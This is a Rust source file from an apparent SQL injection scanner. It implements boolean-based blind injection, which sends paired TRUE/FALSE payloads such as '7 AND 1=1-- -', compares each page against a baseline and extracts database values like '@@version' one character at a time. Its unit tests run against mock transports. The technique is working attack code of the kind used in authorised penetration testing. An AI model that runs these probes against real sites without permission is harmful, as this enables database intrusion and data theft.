//! Boolean-based blind SQL injection

use super::search::{infer_value, Oracle};
use crate::sqli::core::boundary::{self, Boundary, Payload};
use crate::sqli::core::settings::{BOOLEAN_CONFIRM_ROUNDS, DEFAULT_SIMILARITY_THRESHOLD};
use crate::sqli::error::{Result, SqliError};
use crate::sqli::request::{similarity, Prober};
use crate::sqli::techniques::{
    inconclusive, DetectionResult, ExtractionRequest, ExtractionResult, InjectionRequest,
    Technique,
};
use async_trait::async_trait;
use tokio_util::sync::CancellationToken;

pub const NAME: &str = "boolean-blind";

/// Confidence after the discriminating pair plus every confirmation round
const CONFIDENCE: f32 = 0.9;

/// Infers TRUE/FALSE from how closely a page matches the baseline
#[derive(Debug, Clone)]
pub struct BooleanBlind {
    threshold: f64,
}

impl Default for BooleanBlind {
    fn default() -> Self {
        Self::new(DEFAULT_SIMILARITY_THRESHOLD)
    }
}

impl BooleanBlind {
    pub fn new(threshold: f64) -> Self {
        Self { threshold }
    }

    /// `Some(true)` for a page matching the baseline, `None` when inconclusive
    async fn classify(&self, prober: &Prober<'_>, baseline: &str, payload: &Payload) -> Result<Option<bool>> {
        let page = match inconclusive(prober.send(payload).await)? {
            Some(page) => page,
            None => return Ok(None),
        };
        let ratio = similarity(&page.body_text(), baseline).await;
        tracing::debug!(param = %prober.parameter().name, ratio, "{}", payload);
        Ok(Some(ratio >= self.threshold))
    }

    /// TRUE matches the baseline and FALSE does not
    async fn discriminates(
        &self,
        prober: &Prober<'_>,
        baseline: &str,
        boundary: &Boundary,
    ) -> Result<Option<Payload>> {
        let original = &prober.parameter().value;
        let (yes, no) = boundary.conditions();
        let true_payload = boundary.and(original, yes);
        let false_payload = boundary.and(original, no);

        if self.classify(prober, baseline, &true_payload).await? != Some(true) {
            return Ok(None);
        }
        if self.classify(prober, baseline, &false_payload).await? != Some(false) {
            return Ok(None);
        }
        Ok(Some(true_payload))
    }

    /// First boundary that discriminates, in priority order
    pub(crate) async fn find_boundary(
        &self,
        prober: &Prober<'_>,
        baseline: &str,
    ) -> Result<Option<(&'static Boundary, Payload)>> {
        for candidate in boundary::candidates(prober.parameter().param_type) {
            prober.check_cancelled()?;
            if let Some(payload) = self.discriminates(prober, baseline, candidate).await? {
                return Ok(Some((candidate, payload)));
            }
        }
        Ok(None)
    }
}

struct PageOracle<'a> {
    prober: Prober<'a>,
    boundary: &'static Boundary,
    baseline: String,
    threshold: f64,
}

#[async_trait]
impl Oracle for PageOracle<'_> {
    async fn check(&self, condition: &str) -> Result<bool> {
        let payload = self.boundary.and(&self.prober.parameter().value, condition);
        let page = self.prober.send(&payload).await?;
        Ok(similarity(&page.body_text(), &self.baseline).await >= self.threshold)
    }

    fn requests(&self) -> usize {
        self.prober.requests()
    }
}

#[async_trait]
impl Technique for BooleanBlind {
    fn name(&self) -> &'static str {
        NAME
    }

    fn priority(&self) -> u8 {
        2
    }

    async fn detect(&self, cancel: &CancellationToken, req: &InjectionRequest) -> Result<DetectionResult> {
        let prober = req.prober(cancel);
        let baseline = req.baseline_text();

        let (boundary, payload) = match self.find_boundary(&prober, &baseline).await? {
            Some(found) => found,
            None => return Ok(DetectionResult::negative(NAME)),
        };

        // Greedy: a boundary that fails confirmation ends the search
        for round in 1..=BOOLEAN_CONFIRM_ROUNDS {
            if self.discriminates(&prober, &baseline, boundary).await?.is_none() {
                tracing::debug!(
                    param = %req.parameter.name,
                    "boolean confirmation round {} failed for prefix {:?}",
                    round,
                    boundary.prefix
                );
                return Ok(DetectionResult::negative(NAME));
            }
        }

        let evidence = format!(
            "TRUE/FALSE pages differ with prefix {:?} across {} rounds",
            boundary.prefix,
            BOOLEAN_CONFIRM_ROUNDS + 1
        );
        Ok(DetectionResult::positive(NAME, CONFIDENCE, payload, evidence))
    }

    async fn extract(&self, cancel: &CancellationToken, req: &ExtractionRequest) -> Result<ExtractionResult> {
        let injection = &req.injection;
        let prober = injection.prober(cancel);
        let baseline = injection.baseline_text();

        let boundary = match self.find_boundary(&prober, &baseline).await? {
            Some((boundary, _)) => boundary,
            None => {
                return Err(SqliError::NotInjectable(format!(
                    "no boolean boundary for {}",
                    injection.parameter.name
                )))
            }
        };

        let oracle = PageOracle {
            prober,
            boundary,
            baseline,
            threshold: self.threshold,
        };
        infer_value(&oracle, injection.dialect(), &req.query).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::mock::{page, MockTransport};
    use crate::sqli::techniques::testing::{evaluate, extraction, injection, numeric_condition};
    use std::sync::Arc;

    const BASE: &str = "<html><h1>Product 7</h1><p>Blue mug, 12oz, dishwasher safe. In stock.</p></html>";
    const EMPTY: &str = "<html><h1>Not found</h1></html>";

    fn vulnerable(secret: &'static str) -> Arc<MockTransport> {
        Arc::new(MockTransport::on_query("id", move |v| {
            if v == "7" {
                return page(BASE);
            }
            match numeric_condition(v).and_then(|c| evaluate(c, secret)) {
                Some(true) => page(BASE),
                Some(false) => page(EMPTY),
                None => page("You have an error in your SQL syntax"),
            }
        }))
    }

    #[tokio::test]
    async fn test_detects_numeric_context() {
        let transport = vulnerable("");
        let req = injection(transport.clone(), BASE, "");
        let result = BooleanBlind::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();

        assert!(result.injectable);
        assert_eq!(result.technique, "boolean-blind");
        assert_eq!(result.payload.unwrap().render(), "7 AND 1=1-- -");
        // discovery pair plus two confirmation pairs
        assert_eq!(transport.count(), 6);
    }

    #[tokio::test]
    async fn test_static_page_is_not_injectable() {
        let transport = Arc::new(MockTransport::fixed(BASE));
        let req = injection(transport, BASE, "");
        let result = BooleanBlind::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();
        assert!(!result.injectable);
        assert!(result.payload.is_none());
    }

    #[tokio::test]
    async fn test_flaky_confirmation_rejects() {
        use std::sync::atomic::{AtomicUsize, Ordering};
        let calls = Arc::new(AtomicUsize::new(0));
        let seen = calls.clone();
        // First pair discriminates, afterwards every page matches
        let transport = Arc::new(MockTransport::on_query("id", move |v| {
            let n = seen.fetch_add(1, Ordering::Relaxed);
            if n == 1 && v.ends_with("1=2-- -") {
                page(EMPTY)
            } else {
                page(BASE)
            }
        }));
        let req = injection(transport.clone(), BASE, "");
        let result = BooleanBlind::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();

        assert!(!result.injectable);
        assert_eq!(transport.count(), 4);
    }

    #[tokio::test]
    async fn test_same_probe_classifies_identically() {
        let transport = vulnerable("");
        let req = injection(transport, BASE, "");
        let cancel = CancellationToken::new();
        let prober = req.prober(&cancel);
        let technique = BooleanBlind::default();

        for candidate in crate::sqli::core::BOUNDARIES {
            let payload = candidate.and("7", candidate.conditions().0);
            let first = technique.classify(&prober, BASE, &payload).await.unwrap();
            let second = technique.classify(&prober, BASE, &payload).await.unwrap();
            assert_eq!(first, second);
        }
    }

    #[tokio::test]
    async fn test_extracts_value() {
        let transport = vulnerable("5.7.44");
        let req = extraction(injection(transport, BASE, "mysql"), "@@version");
        let result = BooleanBlind::default()
            .extract(&CancellationToken::new(), &req)
            .await
            .unwrap();

        assert_eq!(result.value, "5.7.44");
        assert!(!result.partial);
        // boundary discovery pair, then the search itself
        assert_eq!(result.requests, 2 + 11 + 6 * 7);
    }

    #[tokio::test]
    async fn test_cancelled_extraction_is_error() {
        let transport = vulnerable("abc");
        let req = extraction(injection(transport, BASE, ""), "@@version");
        let cancel = CancellationToken::new();
        cancel.cancel();
        let err = BooleanBlind::default().extract(&cancel, &req).await.unwrap_err();
        assert!(err.is_fatal());
    }
}
